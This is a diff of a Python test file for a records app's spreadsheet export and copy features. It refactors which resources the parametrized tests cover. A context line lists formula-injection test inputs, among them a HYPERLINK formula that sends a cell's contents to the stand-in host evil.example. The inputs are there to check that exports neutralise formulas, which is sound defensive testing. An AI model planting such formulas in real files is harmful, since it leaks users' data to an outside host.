@@ -17,6 +17,8 @@ from tests.factories import agreement_with_everything
 
 # Resources whose serializer has a field only the serializer can compute (a region's path).
 NOT_FLAT = {"regions"}
+# The records' resources; saved views are a user's settings, not records: they have no export.
+RECORD_RESOURCES = [(prefix, viewset) for prefix, viewset, _ in router.registry if issubclass(viewset, RecordViewSet)]
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1)", "+1+1", "-1+1", "\tx", "\rx"]
 
@@ -55,11 +57,7 @@ def test_a_party_named_like_a_formula_is_inert_in_the_agreements_export():
 
 
 @pytest.mark.parametrize("language", ["en", "zh-hans"])
-@pytest.mark.parametrize(
-    ("prefix", "viewset"),
-    # Saved views are a user's settings, not records: they have no export.
-    [(prefix, viewset) for prefix, viewset, _ in router.registry if issubclass(viewset, RecordViewSet)],
-)
+@pytest.mark.parametrize(("prefix", "viewset"), RECORD_RESOURCES)
 def test_the_flat_export_gives_the_serializers_cells_for_every_resource(every_kind_of_record, prefix, viewset, language):
     serializer = viewset.serializer_class(context={})
     queryset = viewset.queryset.all()
@@ -146,7 +144,7 @@ def test_stats_and_single_records_export_as_xlsx_too():
 
 @pytest.mark.postgresql
 @pytest.mark.parametrize("language", ["en", "zh-hans"])
-@pytest.mark.parametrize(("prefix", "viewset"), [(prefix, viewset) for prefix, viewset, _ in router.registry])
+@pytest.mark.parametrize(("prefix", "viewset"), RECORD_RESOURCES)
 def test_copy_gives_the_serializers_cells_for_every_resource(every_kind_of_record, prefix, viewset, language):
     serializer = viewset.serializer_class(context={})
     queryset = viewset.queryset.all()
